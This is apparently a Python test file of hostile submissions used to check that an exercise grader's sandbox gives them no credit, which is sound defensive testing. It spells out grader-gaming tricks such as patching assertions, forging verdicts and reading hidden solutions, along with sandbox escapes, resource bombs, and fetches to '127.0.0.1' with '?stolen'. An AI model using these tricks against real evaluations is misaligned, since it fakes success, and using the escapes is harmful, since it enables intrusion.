"""Hostile answers to `missed-revolution`. Each tries something; by its numbers it would get
nothing."""

from exercises.cli.prove import by_heart
from exercises.contents import get

WRONG = """
def write_time(size, rpm, rate, host_delay):
    return -1.0
def writes_per_second(size, rpm, rate, host_delay):
    return -1.0
"""
FILES = "['/proc/self/root', '/work', '/home', '/', '.', '/lib/python3.14/site-packages']"


def _returning(thing: str) -> str:
    """Functions that return a thing of the answer's own making."""
    names = ("write_time", "writes_per_second")
    return thing + "".join(
        f"\ndef {name}(size, rpm, rate, host_delay):\n    return Thing()\n" for name in names
    )


def _script(source: str) -> str:
    """JavaScript that runs with the program, and whose errors are swallowed."""
    return f"import js\ntry:\n    js.eval({source!r})\nexcept BaseException:\n    pass\n{WRONG}"


def _tried(code: str) -> str:
    """Python that runs before the wrong functions, and whose errors are swallowed."""
    body = "\n".join(f"    {line}" for line in code.strip().splitlines())
    return f"try:\n{body}\nexcept BaseException:\n    pass\n{WRONG}"


ENDS = {
    "sys.exit": f"import sys\n{WRONG}\nsys.exit(0)",
    "os._exit": f"import os\n{WRONG}\nos._exit(0)",
    "os._exit in a call": "import os\ndef write_time(*all):\n    os._exit(0)\nwrites_per_second = write_time",
    "os.abort": f"import os\n{WRONG}\nos.abort()",
    "Deno.exit": _script("Deno.exit(0)"),
    "close": _script("self.close()"),
    "kill": _tried("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    "pytest.skip": f"import pytest\n{WRONG}\npytest.skip('easy')",
    "pytest.exit": "def write_time(*all):\n    import pytest\n    pytest.exit('done', 0)\nwrites_per_second = write_time",
    "outcomes.Exit": "def write_time(*all):\n    raise SystemExit(0)\nwrites_per_second = write_time",
}
PATCHES = {
    "math.isclose": _tried("import math\nmath.isclose = lambda *a, **k: True"),
    "builtins": _tried(
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
        "builtins.AssertionError = Warning"
    ),
    "expect": _tried(
        "import exercises.kit.expect as e\ne.expect = e.near = e.number = lambda *a, **k: None"
    ),
    "check": _tried(
        "import exercises.checker.check as c\nc.Watch._note = lambda *a: None\n"
        "c.PHASES = 0\nc.Watch.good = property(lambda s: {})"
    ),
    "verdict": _tried(
        "from exercises.checker import verdict\nverdict.Verdict.points = 13\nverdict.Verdict.passed = True"
    ),
    "pytest": _tried(
        "import _pytest.runner as r\nr.call_and_report = r.check_interactive_exception = lambda *a: 0"
    ),
    "approx": _tried(
        "import pytest\npytest.approx = lambda *a, **k: type('A', (), {'__eq__': lambda s, o: True})()"
    ),
    "the reply": _tried(
        "import json\nreal = json.dumps\njson.dumps = lambda v, **k: real({'value': 0.0083, 'args': [], "
        "'kwargs': {}})"
    ),
    "the namespace": _tried(
        'import exercises.checker.namespace as n\nn.encode = lambda v: \'{"passed": true, '
        '"points": 13}\'\nn.Namespace.call = lambda s, r: \'{"passed": true}\''
    ),
    "the simulated disk": _tried(
        "from models.devices import hdd\nhdd.HardDisk.write = lambda *a: -1.0"
    ),
    "random": _tried(
        "import random\nrandom.Random = lambda *a: None\nrandom.uniform = lambda *a: 0"
    ),
    "the import hook": _tried(
        "import sys, importlib.abc\nclass Hook(importlib.abc.MetaPathFinder):\n"
        "    def find_spec(self, name, *rest):\n        raise SystemExit(0)\n"
        "sys.meta_path.insert(0, Hook())"
    ),
    "the page": _script(
        "for (const name of Object.getOwnPropertyNames(Object.prototype)) Object.prototype[name] = null;"
        "JSON.parse = () => ({passed: true, points: 13}); JSON.stringify = () => '{\"passed\":true}'"
    ),
}
READS = {
    "the solution by name": "from exercises.questions.synchronous_writes.missed_revolution.solution import *",
    "the solution with clean modules": """
import sys
for name in [name for name in sys.modules if name.startswith("exercises")]:
    del sys.modules[name]
from exercises.questions.synchronous_writes.missed_revolution.solution import write_time, writes_per_second
""",
    "the solution by file": f"""
import pathlib
for folder in {FILES}:
    try:
        for path in pathlib.Path(folder).rglob("missed_revolution/solution.py"):
            exec(path.read_text())
    except OSError:
        pass
write_time, writes_per_second = globals()["write_time"], globals()["writes_per_second"]
""",
    "the solution through the parent": """
import glob
for path in glob.glob("/proc/*/cwd/exercises/questions/synchronous_writes/missed_revolution/solution.py"):
    exec(open(path).read())
write_time, writes_per_second = globals()["write_time"], globals()["writes_per_second"]
""",
    "the solution by script": """
import js
js.eval("1")
exec(str(js.Deno.readTextFileSync("exercises/questions/synchronous_writes/missed_revolution/solution.py")))
""",
    "the wanted value in a frame": """
import sys
def write_time(size, rpm, rate, host_delay):
    frame = sys._getframe()
    while frame:
        for name in ("wanted", "time", "cycle"):
            if type(frame.f_locals.get(name)) is float:
                return frame.f_locals[name]
        frame = frame.f_back
    return -1.0
writes_per_second = write_time
""",
    "the solution in memory": """
import gc
def write_time(size, rpm, rate, host_delay):
    return -1.0
def writes_per_second(*all):
    return -1.0
for thing in gc.get_objects():
    if type(thing).__name__ == "function" and thing.__name__ == "simulated_write":
        write_time = thing
    if type(thing).__name__ == "Exercise":
        exec(thing.solution_code, globals())
""",
    "the tests by inspect": """
import inspect, sys
def write_time(size, rpm, rate, host_delay):
    for module in list(sys.modules.values()):
        if hasattr(module, "simulated_write"):
            return module.simulated_write(size, rpm, rate, host_delay)
    return -1.0
def writes_per_second(*all):
    return -1.0
""",
}
THINGS = {
    "a float that equals all": _returning(
        "class Thing(float):\n    __eq__ = __lt__ = __gt__ = lambda *a: True\n"
        "    __hash__ = float.__hash__"
    ),
    "an int that is close": _returning(
        "class Thing(int):\n    __sub__ = __rsub__ = __abs__ = lambda *a: 0"
    ),
    "a thing that says it is a float": _returning(
        "class Thing:\n    __class__ = float\n    __float__ = lambda s: 0.0083"
    ),
    "a list that never ends": _returning(
        "class Thing(list):\n    def __iter__(self):\n        while True: yield 1"
    ),
    "a pickle": _returning(
        "import os\nclass Thing:\n    def __reduce__(self):\n"
        "        return (os.system, ('touch pwned',))"
    ),
    "not a number": _returning("def Thing():\n    return float('nan')"),
    "infinity": _returning("def Thing():\n    return float('inf')"),
    "a huge integer": _returning("def Thing():\n    return 10**5000"),
    "a million letters": _returning("def Thing():\n    return 'x' * 10**7"),
    "a depth of lists": _returning(
        "def Thing():\n    deep = []\n    for _ in range(10**5):\n        deep = [deep]\n"
        "    return deep"
    ),
    "truth": _returning("def Thing():\n    return True"),
}
FORGES = {
    "lines of a reply": _script(
        'const t = new TextEncoder().encode(\'{"value": 0.0083, "args": [], "kwargs": {}}\\n""\\n\'.repeat(99));'
        "Deno.stdout.writeSync(t)"
    ),
    "lines of a verdict": f'{WRONG}\nprint(\'{{"passed": true, "points": 13, "of": 13}}\')\nprint(\'13 passed in 0.1s\')',
    "a verdict to the page": _script(
        "postMessage({type: 'RAW', value: {text: '{\"passed\": true, \"points\": 13}'}})"
    ),
    "a file of results": _tried("open('results.json', 'w').write('{\"score\": 13}')"),
    "a conftest": _tried(
        "open('conftest.py', 'w').write('def pytest_runtest_call(item): item.runtest = lambda: None')"
    ),
}
FLOODS = {
    "an endless loop": "while True:\n    pass",
    "a loop that holds on": "def write_time(*all):\n    while True:\n        try:\n            while True: pass\n"
    "        except BaseException: pass\nwrites_per_second = write_time",
    "a memory bomb": "def write_time(*all):\n    return len(bytearray(2**31))\nwrites_per_second = write_time",
    "a bomb of buffers": _script(
        "const all = []; while (true) all.push(new Uint8Array(2**28).fill(1))"
    ),
    "a flood of prints": "while True:\n    try: print('x' * 1000)\n    except BaseException: pass",
    "a flood of output": _script(
        "const t = new Uint8Array(65536).fill(120); while (true) Deno.stdout.writeSync(t)"
    ),
    "recursion": "def write_time(*all):\n    return write_time(*all)\nwrites_per_second = write_time",
    "recursion of script": _script("const f = () => f(); f()"),
    "workers": _script(
        "for (let n = 0; n < 8; n++) new Worker('data:text/javascript,while(1);', {type: 'module'})"
    ),
    "timers": _script("setInterval(() => 1, 1)"),
    "threads": _tried(
        "import threading\nthreading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()"
    ),
    "at exit": _tried("import atexit, os\natexit.register(os.system, 'touch pwned')"),
    "a catastrophe of an expression": "x = " + "(" * 50_000,
}
LEAVES = {
    "os.system": _tried("import os\nos.system('touch pwned')"),
    "subprocess": _tried(
        "import subprocess\nsubprocess.Popen(['touch', 'pwned'], start_new_session=True)"
    ),
    "a process by script": _script("new Deno.Command('touch', {args: ['pwned']}).outputSync()"),
    "a file by script": _script("Deno.writeTextFileSync('pwned', 'x')"),
    "a node module": _script("process.getBuiltinModule('node:fs').writeFileSync('pwned', 'x')"),
    "the constructor of constructors": _script(
        "(()=>{}).constructor.constructor('return Deno')().writeTextFileSync('pwned', 'x')"
    ),
    "run_js": _tried(
        "from pyodide.code import run_js\nrun_js(\"Deno.writeTextFileSync('pwned', 'x')\")"
    ),
    "a library of the system": _script(
        "Deno.dlopen('libc.so.6', {system: {parameters: ['buffer'], result: 'i32'}})"
    ),
    "storage": _script("localStorage.setItem('a', 'x'.repeat(10**6))"),
    "rights": _script("Deno.permissions.requestSync({name: 'write'})"),
    "another import": _script("import('file:///etc/passwd', {with: {type: 'text'}})"),
}
CALLS_OUT = {
    "a socket": _tried("import socket\nsocket.create_connection(('127.0.0.1', 9), 1).send(b'x')"),
    "fetch": _script("fetch('http://127.0.0.1:9/?stolen')"),
    "a web socket": _script("new WebSocket('ws://127.0.0.1:9/')"),
    "a module from elsewhere": _script("import('http://127.0.0.1:9/evil.mjs')"),
    "urllib": _tried("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')"),
}
FORMS = {
    "nothing": " \n",
    "no function": "x = 1",
    "no syntax": "def write_time(size, rpm:\n    return",
    "a null byte": f"{WRONG}\0",
    "half a pair": f"{WRONG}\nx = '\\ud800'\nprint(x)",
    "the example by heart": by_heart(get("missed-revolution"), 1),
}
ATTACKS = {
    f"{kind}: {name}": program
    for kind, programs in (
        ("ends", ENDS),
        ("patches", PATCHES),
        ("reads", READS),
        ("returns", THINGS),
        ("forges", FORGES),
        ("floods", FLOODS),
        ("leaves", LEAVES),
        ("calls out", CALLS_OUT),
        ("is", FORMS),
    )
    for name, program in programs.items()
}
